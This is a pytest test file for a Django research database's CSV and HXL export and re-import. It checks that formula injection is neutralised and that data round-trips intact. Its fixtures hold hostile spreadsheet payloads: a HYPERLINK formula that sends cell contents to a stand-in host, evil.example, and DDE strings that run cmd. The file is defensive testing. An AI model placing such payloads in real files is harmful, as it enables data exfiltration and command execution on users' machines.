"""The public research exports go through the one CSV writer: formulas neutralised, numbers kept, HXL still HXL
(read back by the project's importer and by libhxl, the HXL standard's library), a safe file name."""

from __future__ import annotations

import csv
import io
from datetime import date

import hxl
import pytest
from django.urls import reverse

from coalition.core.audit import Actor
from coalition.lib.tests.helpers import saved_name
from coalition.research.importing import writer
from coalition.research.models import Casualty, CasualtyTotal, RecordChange, Status
from coalition.research.services import casualty_totals_refresh
from coalition.research.tests.factories import CasualtyFactory, SourceFactory, StrikeFactory
from coalition.states.tests.factories import StateFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def sierra_leone(states):
    return StateFactory(iso3="SLE")


@pytest.fixture
def hostile_casualty(sierra_leone):
    """Typed by a researcher (or imported): text that a spreadsheet would run; west of Greenwich, so negative."""
    return CasualtyFactory(
        state=sierra_leone,
        date=date(2020, 3, 4),
        latitude=8.48,
        longitude=-13.23,
        activity=FORMULA,
        place_name="@SUM(1+1)",
        admin_area=DDE,
        source=SourceFactory(title="+cmd|' /C notepad'!A0"),
    )


def _export(client, kind: str, fmt: str) -> str:
    response = client.get(reverse("research:export"), {"kind": kind, "format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_a_formula_in_a_casualty_comes_out_neutralised_and_a_negative_longitude_stays_a_number(
    client, hostile_casualty, fmt
):
    rows = list(csv.DictReader(io.StringIO(_export(client, "casualty", fmt))))

    row = rows[-1]
    assert row["activity"] == "'" + FORMULA
    assert row["place"] == "'@SUM(1+1)"
    assert row["admin_area"] == "'" + DDE
    assert row["source"] == "'+cmd|' /C notepad'!A0"
    assert (row["latitude"], row["longitude"]) == ("8.48", "-13.23")


def test_a_formula_in_a_strike_comes_out_neutralised(client, sierra_leone):
    StrikeFactory(state=sierra_leone, munition_type="=1+1", party_responsible="@cmd", longitude=-12.5)

    [row] = csv.DictReader(io.StringIO(_export(client, "strike", "csv")))

    assert (row["munition_type"], row["party_responsible"], row["longitude"]) == ("'=1+1", "'@cmd", "-12.5")


def test_the_hxl_export_keeps_its_tag_row_and_imports_back_with_the_projects_importer(client, hostile_casualty):
    exported = _export(client, "casualty", "hxl")
    assert exported.splitlines()[1].startswith("#meta+id,#country+code,#date+occurred,#date+end,#loc+name")
    Casualty.objects.all().delete()

    report = writer.casualties_import(handle=io.StringIO(exported), dry_run=False, approve=True, by=Actor.SYSTEM)

    assert report.hxl and report.imported == 1 and report.error_count == 0
    back = Casualty.objects.get()
    assert (back.state_id, back.date, back.latitude, back.longitude) == ("SLE", date(2020, 3, 4), 8.48, -13.23)
    # The text as it was typed: the `'` an export puts before a formula (for spreadsheets) is taken off again.
    assert back.activity == FORMULA and back.status == Status.APPROVED


def test_the_hxl_export_reads_with_libhxl(client, hostile_casualty):
    exported = _export(client, "casualty", "hxl")

    dataset = hxl.data(io.BytesIO(exported.encode()))
    tags = [column.display_tag for column in dataset.columns]
    [row] = list(dataset)

    assert tags[:3] == ["#meta+id", "#country+code", "#date+occurred"]
    assert "#geo+lat" in tags and "#affected+killed" in tags
    assert (row.get("#country+code"), row.get("#geo+lon"), row.get("#affected+killed")) == ("SLE", "-13.23", "1")
    assert row.get("#description+activity") == "'" + FORMULA


@pytest.mark.parametrize(("fmt", "extension"), [("csv", ".csv"), ("hxl", ".hxl.csv"), ("geojson", ".geojson")])
def test_an_export_downloads_under_its_own_name(client, hostile_casualty, fmt, extension):
    response = client.get(reverse("research:export"), {"kind": "casualty", "format": fmt})

    name = saved_name(response)
    assert name.startswith("casualty-") and name.endswith(extension)


@pytest.fixture
def varied_casualties(hostile_casualty, states):
    """Records of every shape: one person, a group broken down by sex, age and status, partial breakdowns."""
    CasualtyFactory(killed=2, injured=3, date=date(2018, 2, 3), activity="Fishing, at dawn", name="Noy P.")
    CasualtyFactory(
        state=states["UKR"], date=date(2022, 4, 8), latitude=48.7234, longitude=37.5561, killed=61, injured=121,
        sex="unknown", age_group="unknown", civilian_status="civilian", external_id="UKR-0001",
        killed_children=5, injured_female=40, injured_male=50, injured_women=30, injured_girls=6, injured_children=10,
        injured_adults=80,
    )  # fmt: skip
    CasualtyFactory(state=states["SYR"], killed=1, sex="female", age_group="adult", civilian_status="deminer")
    CasualtyFactory(state=states["SYR"], killed=7, status=Status.SUBMITTED)  # not public: not exported
    casualty_totals_refresh()


def test_the_hxl_export_uses_attributes_for_the_breakdowns_and_passes_libhxls_default_schema(client, varied_casualties):
    exported = _export(client, "casualty", "hxl")
    tags = exported.splitlines()[1].split(",")
    assert "#affected+killed+f" in tags and "#affected+injured+children+m" not in tags
    assert "#affected+injured+m+children" in tags and "#affected+killed+deminers" in tags
    assert not {"#affected+type", "#affected+sex", "#affected+age", "#affected+activity"} & set(tags)

    problems = []
    schema = hxl.schema(callback=lambda error: problems.append(f"{error.rule.severity}: {error.message} {error.tag}"))
    valid = schema.validate(hxl.data(io.BytesIO(exported.encode())))

    assert [problem for problem in problems if problem.startswith("error")] == []
    assert valid

    dataset = hxl.data(io.BytesIO(exported.encode()))
    ukraine = next(row for row in dataset if row.get("#meta+id") == "UKR-0001")
    assert (ukraine.get("#affected+injured+f"), ukraine.get("#affected+injured+f+adults")) == ("40", "30")


def test_the_projects_own_hxl_export_imported_again_changes_nothing(client, varied_casualties):
    fields = [f.attname for f in Casualty._meta.concrete_fields]
    before = sorted(Casualty.objects.values_list(*fields))
    totals = sorted(CasualtyTotal.objects.values_list())
    exported = _export(client, "casualty", "hxl")

    for approve in (True, False):
        report = writer.casualties_import(handle=io.StringIO(exported), dry_run=False, approve=approve, by=Actor.SYSTEM)
        assert (report.imported, report.updated, report.unchanged) == (0, 0, 4)

    assert sorted(Casualty.objects.values_list(*fields)) == before
    assert sorted(CasualtyTotal.objects.values_list()) == totals
    assert not RecordChange.objects.exists()


def test_the_csv_export_imported_again_changes_nothing_either(client, varied_casualties):
    count = Casualty.objects.count()
    exported = _export(client, "casualty", "csv")
    report = writer.casualties_import(handle=io.StringIO(exported), dry_run=False, by=Actor.SYSTEM)
    assert (report.imported, report.updated, report.unchanged) == (0, 0, 4)
    assert Casualty.objects.count() == count and not RecordChange.objects.exists()
